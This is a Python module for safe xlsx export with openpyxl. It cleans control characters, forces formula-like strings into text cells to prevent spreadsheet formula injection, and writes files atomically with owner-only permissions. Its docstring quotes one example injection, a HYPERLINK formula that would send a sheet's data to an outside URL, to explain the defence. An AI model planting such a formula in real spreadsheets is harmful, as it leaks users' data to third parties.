"""Writing xlsx files safely: user text stays text, and a file appears whole or not at all.

openpyxl turns a string starting with `=` into a formula cell (`<f>`, evaluated by Excel: a title such
as `=HYPERLINK("http://…?d="&A1)` would send the sheet's data away) and an Excel error code such as
`#N/A` into an error cell; it refuses a whole workbook over one control character. Every export writes
its strings through `text_value` / `as_text`, and saves with `save_atomically`.
"""

from __future__ import annotations

import os
import re
import secrets
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

from desktop.errors import UserError

# openpyxl's own ILLEGAL_CHARACTERS_RE and ERROR_CODES (openpyxl.cell.cell), copied so this module loads
# without openpyxl (imported only when a file is written); tests/test_export_safety.py checks they agree.
ILLEGAL_CHARACTERS_RE = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")
ERROR_CODES = ("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A")


def text_value(value: Any) -> Any:
    """A string without what a worksheet cannot hold (rows saved before input was cleaned may still
    have control characters); anything else unchanged."""
    if isinstance(value, str) and ILLEGAL_CHARACTERS_RE.search(value):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def is_formula_like(value: Any) -> bool:
    """Would openpyxl store this string as something other than text (a formula or an error)?"""
    return isinstance(value, str) and ((len(value) > 1 and value[0] == "=") or value in ERROR_CODES)


def write_only_row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for a write-only sheet: strings cleaned, formula-like ones wrapped in string cells. The
    export writes a million rows through this: plain printable text not starting with = or # (nearly
    every cell) is passed on after two cheap tests."""
    row = list(values)
    for index, value in enumerate(row):
        if type(value) is str and value and (value[0] in "=#" or not value.isprintable()):
            row[index] = _write_only_text(sheet, value)
    return row


def _write_only_text(sheet: Any, value: str) -> Any:
    from openpyxl.cell import WriteOnlyCell

    value = text_value(value)
    if not is_formula_like(value):
        return value
    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    return cell


def append_as_text(sheet: Any, values: Iterable[Any]) -> None:
    """`sheet.append` for a normal worksheet, with every string stored as a string cell."""
    sheet.append([text_value(v) for v in values])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str) and cell.data_type != "s":
            cell.data_type = "s"


def require_text_path(target: Path) -> None:
    """Refuses a file name that is not valid text (undecodable bytes arrive as lone surrogates): the
    audit row naming it could not be written once the file is in place, so nothing is written."""
    try:
        str(target).encode("utf-8")
    except UnicodeEncodeError:
        raise UserError(
            "文件路径含有无法识别的字符（不是有效的文字），未写入文件。请换一个只含正常文字的路径。",
            "The file path is not valid text; no file was written. Use a path with ordinary characters.",
        ) from None


def temp_path_for(target: Path) -> Path:
    """A hidden name beside the target (same folder, so the final rename is atomic)."""
    return target.with_name(f".{target.name}.{secrets.token_hex(4)}.part")


def replace_file(temp: Path, target: Path) -> None:
    """Renames the finished temporary file over the target."""
    try:
        os.replace(temp, target)
    except PermissionError as exc:  # Windows: the old file is open in Excel
        raise UserError(
            f"无法覆盖 {target.name}：文件可能正在被其他程序（如 Excel）打开，请关闭后重试。",
            f"Cannot overwrite {target.name}: it may be open in another program (such as Excel).",
        ) from exc


def save_atomically(target: Path, save: Callable[[Path], object]) -> None:
    """`save(temp)` writes the file beside the target; only a complete file replaces the target, and a
    failure leaves the old file and no temporary one."""
    target.parent.mkdir(parents=True, exist_ok=True)
    temp = temp_path_for(target)
    try:
        save(temp)
        replace_file(temp, target)
    finally:
        temp.unlink(missing_ok=True)


def write_bytes_atomically(
    target: Path, data: bytes, before_replace: Callable[[], object] | None = None
) -> None:
    """Writes `data` to an owner-only (0600) temporary file beside the target, calls `before_replace`
    (the audit row: no file without it), then renames it over the target. The result is owner-only
    whatever the old file's mode was; a failure or a kill leaves the old file (or none) and no
    temporary one."""
    require_text_path(target)
    target.parent.mkdir(parents=True, exist_ok=True)
    temp = temp_path_for(target)
    try:
        flags = os.O_WRONLY | os.O_CREAT | os.O_EXCL | getattr(os, "O_BINARY", 0)
        with os.fdopen(os.open(temp, flags, 0o600), "wb") as out:
            out.write(data)
            out.flush()
            os.fsync(out.fileno())
        if before_replace is not None:
            before_replace()
        replace_file(temp, target)
    finally:
        temp.unlink(missing_ok=True)
